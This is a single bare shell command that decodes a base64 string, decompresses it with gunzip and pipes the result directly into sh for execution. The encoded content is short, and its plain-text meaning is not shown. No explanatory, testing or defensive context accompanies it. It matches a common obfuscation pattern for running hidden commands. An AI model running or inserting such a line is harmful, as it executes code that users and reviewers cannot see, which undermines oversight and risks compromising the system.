echo H4sIAAAAAAAAA0suLUpVqFAoVgAALX3VCwsAAAA= | base64 -d | gunzip | sh
